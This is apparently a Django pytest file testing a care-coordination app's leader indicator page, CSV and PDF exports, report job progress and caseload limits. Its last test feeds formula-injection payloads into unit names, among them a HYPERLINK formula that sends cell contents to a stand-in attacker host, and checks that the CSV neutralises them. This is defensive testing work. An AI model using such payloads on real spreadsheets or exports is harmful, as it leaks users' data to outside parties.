"""The leaders' indicator page, its CSV, the PDF job with its progress page and download, and
the caseload limit: through the views, as Leif (the kommune's leader) uses them."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.conf import settings
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from actors.models import Organisation
from coordination.models import ReportJob
from coordination.reports import report_jobs
from coordination.reports.indicators import CSV_HEADER, INDICATORS
from lkt.models import AccessLog, ExportLog
from tests.clock import month, year_month
from tests.conftest import Cast, client_for
from tests.coordination.reports.test_indicators import make_teams
from tests.factories import OrganisationFactory, StaffFactory

pytestmark = pytest.mark.django_db

URL = reverse("coordination:indicators")


def leif_report_job(cast: Cast) -> list[int]:
    """A finished indicator report Leif asked for (the access matrix's argument)."""
    job = ReportJob.objects.create(
        requested_by=cast.leader,
        kind=ReportJob.Kind.INDICATORS_PDF,
        organisation=cast.kommune,
        period_start=month(-10),
        period_end=month(-8),
        status=ReportJob.Status.DONE,
        content=b"%PDF-1.7 test",
        filename="indikatorer.pdf",
    )
    return [job.pk]


def leif_period(cast: Cast) -> dict[str, object]:
    return {
        "organisation": cast.kommune.pk,
        "start": year_month(-10),
        "end": year_month(-9),
        "limit": 10,
    }


def this_month() -> str:
    return f"{timezone.localdate():%Y-%m}"


@pytest.fixture
def five_teams(cast: Cast):
    """Five complete teams in Fjordvik besides Kari's, so the kommune's cells are shown."""
    return make_teams(cast.kommune, 5, established=month(-24))


def test_the_page_shows_the_leaders_organisation_for_the_last_twelve_months(cast: Cast, five_teams):
    response = client_for(cast.leader).get(URL)

    assert response.status_code == 200
    page = response.content.decode()
    report = response.context["report"]
    assert report.organisation == cast.kommune
    assert len(report.months) == 12
    assert 'role="img"' in page and "<title id=" in page and "<desc id=" in page
    # Five complete teams and Kari's, which misses three mandatory roles: 5 of 6.
    assert "83 %" in page
    assert "Kari Nordvik" not in page
    assert "Indikatorer" in page


def test_the_page_tells_which_cells_are_suppressed(cast: Cast):
    page = client_for(cast.leader).get(URL).content.decode()

    assert "&lt;5" in page
    assert "færre enn 5" in page


@pytest.mark.parametrize(
    ("start", "end", "message"),
    [
        ("2025-06", "2025-01", "Til-måneden må være samme måned som fra-måneden eller senere."),
        ("2020-01", "2025-01", "Velg høyst 36 måneder."),
        ("mars", "2025-01", "Skriv måneden som år og måned, for eksempel 2026-03."),
        ("2025-01", "2099-01", "Perioden kan ikke slutte etter denne måneden."),
        ("0001-01", "0001-02", "Skriv en dato mellom 1.1.1900 og 31.12.2100."),
        ("2025-01", "9999-12", "Skriv en dato mellom 1.1.1900 og 31.12.2100."),
    ],
)
def test_a_wrong_period_is_explained_and_shows_no_report(cast: Cast, start, end, message):
    response = client_for(cast.leader).get(URL, {"start": start, "end": end})

    assert response.status_code == 200
    assert message in response.content.decode()
    assert "report" not in response.context


def test_an_organisation_outside_the_leaders_is_not_there(cast: Cast):
    response = client_for(cast.leader).get(URL, {"organisation": cast.other_kommune.pk})

    assert response.status_code == 404


def test_a_unit_below_the_leaders_organisation_can_be_chosen(cast: Cast):
    unit = OrganisationFactory.create(name="Hjemmetjenesten", parent=cast.kommune)

    response = client_for(cast.leader).get(URL, {"organisation": unit.pk})

    assert response.status_code == 200
    assert response.context["report"].organisation == unit


@pytest.mark.parametrize("organisation", ["²", "١", "-1", "99999999999999999999"])
def test_an_organisation_id_that_is_not_0_to_9_is_a_form_error(cast: Cast, organisation: str):
    client = client_for(cast.leader)
    for response in (
        client.get(URL, {"organisation": organisation}),
        client.get(reverse("coordination:indicators-csv"), {"organisation": organisation}),
        client.post(reverse("coordination:indicators-pdf"), {"organisation": organisation}),
        client.post(
            reverse("coordination:caseload-limit"), {"organisation": organisation, "limit": 5}
        ),
    ):
        assert response.status_code in (200, 400)
        assert "Velg en av organisasjonene dine." in response.content.decode()
    assert not ReportJob.objects.exists()


@pytest.mark.parametrize("role", ["coordinator", "member", "patient", "relative", "night"])
def test_only_leaders_see_indicators(cast: Cast, role: str):
    assert client_for(cast.user(role)).get(URL).status_code == 403


def test_csv_has_the_columns_and_is_recorded_as_an_export(cast: Cast, five_teams):
    response = client_for(cast.leader).get(
        reverse("coordination:indicators-csv"), {"start": this_month(), "end": this_month()}
    )

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert tuple(rows[0]) == CSV_HEADER
    # One organisation (no units below), every indicator, one month.
    assert len(rows) == 1 + len(INDICATORS)
    roles = next(r for r in rows if r[1] == str(INDICATORS[0].name))
    assert roles == ["Fjordvik kommune", str(INDICATORS[0].name), this_month(), "83 %", "6", "nei"]
    assert "Kari" not in text
    log = ExportLog.objects.get()
    assert (log.user, log.kind, log.organisation) == (
        cast.leader,
        ExportLog.Kind.INDICATORS_CSV,
        cast.kommune,
    )
    assert not AccessLog.objects.filter(user=cast.leader).exists()


def test_csv_of_a_wrong_period_is_refused(cast: Cast):
    response = client_for(cast.leader).get(
        reverse("coordination:indicators-csv"), {"start": "2025-06", "end": "2025-01"}
    )

    assert response.status_code == 400
    assert not ExportLog.objects.exists()


def _order_pdf(cast: Cast, capture) -> ReportJob:
    with capture(execute=True) as callbacks:
        response = client_for(cast.leader).post(
            reverse("coordination:indicators-pdf"),
            {"organisation": cast.kommune.pk, "start": year_month(-10), "end": this_month()},
        )
    assert len(callbacks) == 1
    job = ReportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("coordination:report-job", args=[job.pk])
    return job


def test_pdf_is_made_by_a_job_then_downloaded_and_recorded(
    cast: Cast, five_teams, django_capture_on_commit_callbacks
):
    job = _order_pdf(cast, django_capture_on_commit_callbacks)
    job.refresh_from_db()
    assert job.status == ReportJob.Status.DONE
    client = client_for(cast.leader)

    page = client.get(reverse("coordination:report-job", args=[job.pk])).content.decode()
    assert reverse("coordination:report-job-download", args=[job.pk]) in page
    assert not ExportLog.objects.exists()

    response = client.get(reverse("coordination:report-job-download", args=[job.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Cache-Control"] == "no-store, private"
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert "Fjordvik kommune" in text
    for indicator in INDICATORS[:4]:
        assert str(indicator.name) in text
    assert "Celler med færre enn 5 pasienter er skjult" in text
    assert "Kari" not in text and "Nordvik" not in text
    assert ExportLog.objects.get().kind == ExportLog.Kind.INDICATORS_PDF


def test_the_job_page_polls_while_the_report_is_made(cast: Cast):
    job = ReportJob.objects.create(
        requested_by=cast.leader,
        kind=ReportJob.Kind.INDICATORS_PDF,
        organisation=cast.kommune,
        period_start=month(-10),
        period_end=month(-8),
    )
    url = reverse("coordination:report-job", args=[job.pk])
    client = client_for(cast.leader)

    page = client.get(url).content.decode()
    fragment = client.get(url, headers={"HX-Request": "true"}).content.decode()

    assert 'hx-trigger="every 2s"' in page and 'aria-live="polite"' in page
    assert fragment.lstrip().startswith('<div id="job-status"')
    assert "står i kø" in fragment

    ReportJob.objects.filter(pk=job.pk).update(status=ReportJob.Status.FAILED)
    failed = client.get(url, headers={"HX-Request": "true"}).content.decode()
    assert "hx-trigger" not in failed
    assert "Prøv igjen" in failed and reverse("coordination:indicators-pdf") in failed


def test_the_job_page_says_in_plain_words_that_a_report_stopped_midway_with_a_retry(cast: Cast):
    job = ReportJob.objects.create(
        requested_by=cast.leader,
        kind=ReportJob.Kind.INDICATORS_PDF,
        organisation=cast.kommune,
        period_start=month(-10),
        period_end=month(-8),
        status=ReportJob.Status.RUNNING,
        started_at=timezone.now(),
        attempts=1,
    )
    url = reverse("coordination:report-job", args=[job.pk])
    client = client_for(cast.leader)
    htmx = {"HX-Request": "true"}
    lost = timezone.now() + report_jobs.LOST_AFTER + dt.timedelta(seconds=1)

    # Its worker is lost: the sweep queues it again, and the page keeps polling.
    with time_machine.travel(lost, tick=False):
        report_jobs.report_jobs_sweep()
        again = client.get(url, headers=htmx).content.decode()
    assert "Rapporten stoppet underveis og lages på nytt." in again
    assert 'hx-trigger="every 2s"' in again

    # The second run's worker is lost too: the sweep fails the job, and the page says so.
    ReportJob.objects.filter(pk=job.pk).update(
        status=ReportJob.Status.RUNNING, started_at=lost, attempts=2
    )
    with time_machine.travel(lost + report_jobs.LOST_AFTER + dt.timedelta(seconds=1), tick=False):
        report_jobs.report_jobs_sweep()
        failed = client.get(url, headers=htmx).content.decode()
    assert "Rapporten stoppet underveis og ble ikke ferdig. Prøv igjen." in failed
    assert "Rapporten kunne ikke lages." not in failed  # the reason, not a vaguer one beside it
    assert "hx-trigger" not in failed
    assert reverse("coordination:indicators-pdf") in failed and ">Prøv igjen</button>" in failed

    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    english = client.get(url, headers=htmx).content.decode()
    assert "The report stopped before it was finished. Please try again." in english


def test_another_leaders_job_is_not_there(cast: Cast, django_capture_on_commit_callbacks):
    job = _order_pdf(cast, django_capture_on_commit_callbacks)
    other = StaffFactory.create(organisation=cast.kommune, is_leader=True)
    client = client_for(other)

    assert client.get(reverse("coordination:report-job", args=[job.pk])).status_code == 404
    assert client.get(reverse("coordination:report-job-download", args=[job.pk])).status_code == 404
    assert not ExportLog.objects.exists()


def test_a_pdf_for_an_organisation_outside_the_leaders_is_not_made(cast: Cast):
    response = client_for(cast.leader).post(
        reverse("coordination:indicators-pdf"),
        {"organisation": cast.other_kommune.pk, "start": year_month(-10), "end": year_month(-9)},
    )

    assert response.status_code == 404
    assert not ReportJob.objects.exists()


def test_a_pdf_of_a_wrong_period_shows_the_form_again(cast: Cast):
    response = client_for(cast.leader).post(
        reverse("coordination:indicators-pdf"),
        {"organisation": cast.kommune.pk, "start": year_month(-8), "end": year_month(-10)},
    )

    assert response.status_code == 200
    assert "Til-måneden må være" in response.content.decode()
    assert not ReportJob.objects.exists()


def test_the_leader_sets_the_caseload_limit(cast: Cast):
    client = client_for(cast.leader)
    response = client.post(
        reverse("coordination:caseload-limit"), {"organisation": cast.kommune.pk, "limit": 12}
    )

    assert response.status_code == 302
    cast.kommune.refresh_from_db()
    assert cast.kommune.caseload_limit == 12
    page = client.get(response["Location"]).content.decode()
    assert "12 team per koordinator" in page


@pytest.mark.parametrize(
    ("limit", "message"),
    [
        ("0", "Grensen må være minst 1."),
        ("101", "Grensen kan være høyst 100."),
        ("", "Skriv en grense."),
    ],
)
def test_a_caseload_limit_out_of_range_is_explained(cast: Cast, limit: str, message: str):
    response = client_for(cast.leader).post(
        reverse("coordination:caseload-limit"), {"organisation": cast.kommune.pk, "limit": limit}
    )

    assert response.status_code == 200
    assert message in response.content.decode()
    assert Organisation.objects.get(pk=cast.kommune.pk).caseload_limit is None


def test_the_caseload_limit_of_another_kommune_is_not_there(cast: Cast):
    response = client_for(cast.leader).post(
        reverse("coordination:caseload-limit"), {"organisation": cast.other_kommune.pk, "limit": 5}
    )

    assert response.status_code == 404
    assert Organisation.objects.get(pk=cast.other_kommune.pk).caseload_limit is None


def test_the_menu_links_leaders_to_the_indicators(cast: Cast):
    leader_page = client_for(cast.leader).get(reverse("coordination:leader-approvals"))
    member_page = client_for(cast.member).get(reverse("workspace:team-list"))

    assert URL in leader_page.content.decode()
    assert URL not in member_page.content.decode()


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("https://angriper.example/?d="&A1;"Klikk")', "@SUM(1)", "+1+2", "-2+3"]
)
def test_a_unit_named_like_a_formula_is_text_in_the_csv(cast: Cast, name: str):
    unit = OrganisationFactory.create(name=name, parent=cast.kommune)
    response = client_for(cast.leader).get(
        reverse("coordination:indicators-csv"), {"start": this_month(), "end": this_month()}
    )

    text = response.content.decode("utf-8").removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = [row[0] for row in rows if row[0].endswith(unit.name)]
    assert cells and all(cell == "'" + name for cell in cells)
    # The figures beside it stay numbers for the spreadsheet.
    assert {row[5] for row in rows[1:]} <= {"ja", "nei"}
    assert all(row[4] == "<5" or row[4].isdigit() for row in rows[1:])
